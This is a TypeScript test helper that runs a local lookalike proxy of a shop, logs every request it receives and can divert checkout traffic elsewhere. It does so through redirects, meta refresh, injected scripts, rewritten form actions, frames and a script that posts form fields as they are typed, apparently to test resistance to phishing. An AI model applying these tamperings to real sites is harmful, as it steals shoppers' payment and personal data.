import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * How a page of a shop leads to another site, with or without what was typed into it: by its address, by itself, by its
 * forms, in a frame or a window, or by what its protocols say of where they are spoken.
 */
export const LEADS = [
  'redirect',
  'redirect_with_body',
  'refresh',
  'script',
  'form',
  'form_button',
  'form_in_frame',
  'form_in_window',
  'window_redirect',
  'frame',
  'fetch_redirect',
  'profile',
] as const;
export type Lead = (typeof LEADS)[number];

/** From which pages on: the product's, the cart's, the checkout's, or the one that is sent from there. */
export const STAGES = ['product', 'cart', 'checkout', 'payment'] as const;
export type Stage = (typeof STAGES)[number];

export interface Astray {
  readonly lead: Lead;
  readonly stage: Stage;
  /** The origin that it leads to. */
  readonly to: string;
}

/** A site that shows what a shop shows, under an origin of its own, and writes down every byte that it is sent. */
export interface Mirror {
  readonly url: string;
  readonly host: string;
  readonly received: readonly string[];
  stop(): Promise<void>;
}

export interface MirrorOptions {
  /** The shop that it shows; whoever buys at the mirror buys there. */
  readonly shop: string;
  readonly hostname?: 'localhost' | '127.0.0.1';
  readonly astray?: Astray;
}

/**
 * Opens such a site: one that leads astray is a shop with an open redirect, a page that was tampered with or a profile that
 * points elsewhere; one that does not is whom it leads to.
 * @example
 * const thief = await openMirror({ shop: shop.url });
 * const front = await openMirror({ shop: shop.url, astray: { lead: 'redirect', stage: 'checkout', to: thief.url } });
 */
export async function openMirror({ shop, hostname = 'localhost', astray }: MirrorOptions): Promise<Mirror> {
  const received: string[] = [];
  let url = '';
  const server = createServer(async (request, response) => {
    const body = await bodyOf(request);
    received.push(`${request.method} ${request.url}\n${JSON.stringify(request.headers)}\n${body}`);
    const away = astray && redirectOf(astray, request);
    if (away) return void response.writeHead(away.status, { location: away.location, ...ANYONE }).end();
    await show(request, body, response);
  });

  async function show(request: IncomingMessage, body: string, response: ServerResponse): Promise<void> {
    const path = request.url ?? '/';
    const answer = await fetch(`${shop}${path}`, {
      method: request.method ?? 'GET',
      headers: headersFor(request, shop),
      redirect: 'manual',
      ...(body !== '' && { body }),
    });
    const type = answer.headers.get('content-type') ?? '';
    const own = (await answer.text()).replaceAll(shop, url);
    const text = astray ? tampered(astray, path, type, own, url) : own;
    const location = answer.headers.get('location');
    response.writeHead(answer.status, {
      ...(type !== '' && { 'content-type': type }),
      ...(location !== null && { location: location.replace(shop, url) }),
      'set-cookie': answer.headers.getSetCookie(),
      ...ANYONE,
    });
    response.end(text);
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const host = `${hostname}:${(server.address() as AddressInfo).port}`;
  url = `http://${host}`;
  return {
    url,
    host,
    received,
    stop: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Nothing keeps a page from being framed, or its answers from being read. */
const ANYONE = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };

const PAGES: Readonly<Record<Stage, RegExp>> = {
  product: /^\/(?:products?|p)\//,
  cart: /^\/cart/,
  checkout: /^\/checkout(?:\/|\?|$)/,
  payment: /^\/checkout\/(?:payment|details|place|review)/,
};

function isPage({ stage }: Astray, path: string): boolean {
  return PAGES[stage].test(path);
}

function redirectOf(astray: Astray, { method, url: path = '/' }: IncomingMessage) {
  const { lead, to } = astray;
  if (!isPage(astray, path)) return null;
  if (lead === 'redirect' && method === 'GET') return { status: 302, location: `${to}${path}` };
  const keepsBody = ['redirect_with_body', 'window_redirect', 'fetch_redirect'].includes(lead);
  return keepsBody && method === 'POST' ? { status: 307, location: `${to}${path}` } : null;
}

function tampered(astray: Astray, path: string, type: string, text: string, own: string): string {
  const { lead, to } = astray;
  if (lead === 'profile') return type.includes('json') ? text.replaceAll(own, to) : text;
  if (!type.includes('html') || !isPage(astray, path)) return text;
  switch (lead) {
    case 'refresh':
      return `<!doctype html><meta http-equiv="refresh" content="0;url=${to}${path}"><p>One moment.</p>`;
    case 'script':
      return text.replace(
        '</body>',
        `<script>location.replace(${JSON.stringify(to + path)})</script></body>`,
      );
    case 'frame':
      return `<!doctype html><title>Shop</title><iframe src="${to}${path}" style="width:100%;height:1500px;border:0"></iframe>`;
    case 'form':
      return sentTo(text, to, path);
    case 'form_button':
      return text.replace(/<button(?=[^>]*type="submit"|[^>]*>)/g, `<button formaction="${to}${path}"`);
    case 'form_in_window':
      return sentTo(text, to, path).replaceAll('<form', '<form target="_blank"');
    case 'window_redirect':
      return text.replaceAll('<form', '<form target="_blank"');
    case 'form_in_frame':
      return `${sentTo(text, to, path).replaceAll('<form', '<form target="beside"')}<iframe name="beside" src="${to}/cart"></iframe>`;
    case 'fetch_redirect':
      return text.replace('</body>', `<script>${SENDS_AS_TYPED}</script></body>`);
    default:
      return text;
  }
}

/** What a page with a form of its own does with an address while it is typed: asks its own site about it. */
const SENDS_AS_TYPED = `addEventListener('change', (event) => {
  const form = event.target.form;
  if (form) fetch(location.pathname, { method: 'POST', body: new URLSearchParams(new FormData(form)) }).catch(() => undefined);
});`;

function sentTo(text: string, to: string, path: string): string {
  return text
    .replace(/<form(?![^>]*\baction=)/g, `<form action="${to}${path}"`)
    .replace(/(<form[^>]*\baction=")(\/[^"]*)/g, `$1${to}$2`);
}

const HOP_BY_HOP = new Set(['host', 'connection', 'content-length', 'transfer-encoding', 'accept-encoding']);

function headersFor({ headers }: IncomingMessage, shop: string): Record<string, string> {
  const kept = Object.entries(headers).flatMap(([name, value]) =>
    HOP_BY_HOP.has(name) || value === undefined ? [] : [[name, [value].flat().join('; ')] as const],
  );
  return { ...Object.fromEntries(kept), ...(headers.origin && { origin: shop }) };
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of request) body += String(chunk);
  return body;
}
